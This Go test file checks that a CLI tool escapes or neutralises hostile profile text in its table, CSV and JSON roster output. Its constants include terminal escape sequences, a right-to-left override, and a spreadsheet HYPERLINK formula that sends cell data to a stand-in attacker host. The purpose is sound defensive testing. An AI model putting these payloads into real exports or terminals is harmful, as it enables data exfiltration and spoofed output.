package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/clay-agent/clay-agent/agent/roster"
	"github.com/clay-agent/clay-agent/flows"
)

// Text that whoever edits a profile or sends an invitation controls.
const (
	titleChange = "\x1b]0;pwned\x07" // sets the terminal's title
	rlo         = "\u202e"           // right-to-left override
	hostileName = "Eve " + titleChange + " " + rlo + "nimdA"
	formula     = `=HYPERLINK("http://evil.test/?"&A1,"click")`
	hostileMail = "eve" + rlo + "@evil.test"
	hostileRole = "Editor\x1b[2J"
)

// assertInert fails when out holds a byte or a character a terminal acts
// on, or one that hides or reorders text, other than the newlines that end
// its lines.
func assertInert(t *testing.T, out string) {
	t.Helper()
	for _, r := range strings.ReplaceAll(out, "\n", "") {
		switch {
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f,
			r == 0x061c, r >= 0x200b && r <= 0x200f, r >= 0x2028 && r <= 0x202e,
			r >= 0x2060 && r <= 0x2069, r == 0xfeff:
			assert.Failf(t, "a control or hidden character", "%U in %q", r, out)
			return
		}
	}
}

func hostileRoster() *roster.Roster {
	return &roster.Roster{
		Workspace:  "1234",
		CapturedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
		Members: []roster.Member{
			{Name: "Ann Lee", Email: "ann@acme.test", Role: roster.Admin, You: true},
			{Name: hostileName, Email: hostileMail, Role: hostileRole},
			{Name: formula, Email: "+1@acme.test", Role: roster.Editor},
			{Name: `back\slash`, Email: "-dash@acme.test", Role: roster.Viewer},
		},
		Invitations: []roster.Invitation{{Email: "@sum@evil.test" + titleChange, Role: roster.Editor}},
	}
}

func TestWriteRosterTableEscapesPageText(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, writeRoster(&buf, hostileRoster(), "table", false))
	out := buf.String()
	assertInert(t, out)
	for _, want := range []string{
		`Eve \x1b]0;pwned\a \u202enimdA`,
		`eve\u202e@evil.test`,
		`Editor\x1b[2J`,
		`@sum@evil.test\x1b]0;pwned\a`,
		`back\\slash`,
		formula, // a table is no spreadsheet
	} {
		assert.Contains(t, out, want)
	}

	// the escapes are ASCII: the columns stay aligned
	lines := strings.Split(out, "\n")
	col := strings.Index(lines[0], "EMAIL")
	require.Positive(t, col)
	for _, l := range lines[1:5] {
		assert.Equal(t, ' ', rune(l[col-1]), "a space before the EMAIL column: %q", l)
		assert.NotEqual(t, ' ', rune(l[col]), "the EMAIL column starts at %d: %q", col, l)
	}
}

func TestWriteRosterCSV(t *testing.T) {
	tests := []struct {
		name string
		raw  bool
		want [][]string
	}{
		{
			name: "formulas are neutralised",
			want: [][]string{
				{"type", "name", "email", "role", "you"},
				{"member", "Ann Lee", "ann@acme.test", "Admin", "true"},
				{"member", hostileName, hostileMail, hostileRole, "false"},
				{"member", "'" + formula, "'+1@acme.test", "Editor", "false"},
				{"member", `back\slash`, "'-dash@acme.test", "Viewer", "false"},
				{"invitation", "", "'@sum@evil.test" + titleChange, "Editor", "false"},
			},
		},
		{
			name: "--csv-raw keeps every cell",
			raw:  true,
			want: [][]string{
				{"type", "name", "email", "role", "you"},
				{"member", "Ann Lee", "ann@acme.test", "Admin", "true"},
				{"member", hostileName, hostileMail, hostileRole, "false"},
				{"member", formula, "+1@acme.test", "Editor", "false"},
				{"member", `back\slash`, "-dash@acme.test", "Viewer", "false"},
				{"invitation", "", "@sum@evil.test" + titleChange, "Editor", "false"},
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, writeRoster(&buf, hostileRoster(), "csv", tc.raw))
			records, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
			require.NoError(t, err)
			assert.Equal(t, tc.want, records)
			assert.True(t, strings.HasSuffix(buf.String(), "\r\n"), "records end with CRLF")
		})
	}
}

func TestWriteRosterJSONKeepsExactValues(t *testing.T) {
	var buf bytes.Buffer
	r := hostileRoster()
	require.NoError(t, writeRoster(&buf, r, "json", false))
	assert.NotContains(t, buf.String(), "\x1b", "encoding/json escapes controls")
	var got rosterJSON
	require.NoError(t, json.Unmarshal(buf.Bytes(), &got))
	assert.Equal(t, toRosterJSON(r), got)
	assert.Equal(t, hostileName, got.Members[1].Name)
	assert.Equal(t, hostileMail, got.Members[1].Email)
	assert.Equal(t, formula, got.Members[2].Name)
}

func TestCheckCSVRaw(t *testing.T) {
	tests := []struct {
		raw     bool
		format  string
		wantErr bool
	}{
		{false, "table", false},
		{false, "csv", false},
		{true, "csv", false},
		{true, "table", true},
		{true, "json", true},
	}
	for _, tc := range tests {
		err := checkCSVRaw(tc.raw, tc.format)
		if tc.wantErr {
			assert.ErrorContains(t, err, "--csv-raw", tc.format)
			assert.Equal(t, exitUsage, exitCode(err))
		} else {
			assert.NoError(t, err, tc.format)
		}
	}
}

func TestOneLine(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "Ann Lee", "Ann Lee"},
		{"white space runs", "  Ann \t\n Lee \r\n", "Ann Lee"},
		{"line separators are white space", "a\u2028b\u0085c", "a b c"},
		{"controls", "Eve\x1b[2J\x07", `Eve\x1b[2J\a`},
		{"bidi and zero-width", "\u202eabc\u200b", `\u202eabc\u200b`},
		{"backslash", `a\b`, `a\\b`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, oneLine(tc.in))
		})
	}
}

func TestWriteResultsEscapesPageText(t *testing.T) {
	rs := []flows.Result{
		{Email: "ann@acme.test", Action: flows.Failed, Detail: "the page said: " + titleChange + rlo + "Saved\nreally"},
		{Email: "bob@acme.test", Action: flows.Refused, Detail: "not in --allow-domain"},
	}
	var table, js bytes.Buffer
	a := newApp(strings.NewReader(""), &table, &table)
	a.writeResults(&table, rs, "table")
	assertInert(t, table.String())
	assert.Contains(t, table.String(), `the page said: \x1b]0;pwned\a\u202eSaved really`)
	assert.Len(t, strings.Split(strings.TrimSuffix(table.String(), "\n"), "\n"), 2, "one line per result")

	a.writeResults(&js, rs, "json")
	var got struct {
		Results []resultJSON `json:"results"`
	}
	require.NoError(t, json.Unmarshal(js.Bytes(), &got))
	require.Len(t, got.Results, 2)
	assert.Equal(t, rs[0].Detail, got.Results[0].Detail, "JSON keeps the exact text")
}

func TestReportErrorEscapesPageText(t *testing.T) {
	err := errors.New("sign-in failed: the page said " + titleChange + rlo + "ok\nagent: fine")
	t.Run("text", func(t *testing.T) {
		var stderr bytes.Buffer
		a := newApp(strings.NewReader(""), &stderr, &stderr)
		a.reportError(err, exitLogin)
		assertInert(t, stderr.String())
		assert.Equal(t, `agent: sign-in failed: the page said \x1b]0;pwned\a\u202eok\nagent: fine`+"\n", stderr.String())
	})
	t.Run("json", func(t *testing.T) {
		var stderr bytes.Buffer
		a := newApp(strings.NewReader(""), &stderr, &stderr)
		a.jsonErrors = true
		a.reportError(err, exitLogin)
		var got struct {
			Error struct {
				Message string `json:"message"`
			} `json:"error"`
		}
		require.NoError(t, json.Unmarshal(stderr.Bytes(), &got))
		assert.Equal(t, err.Error(), got.Error.Message)
	})
}
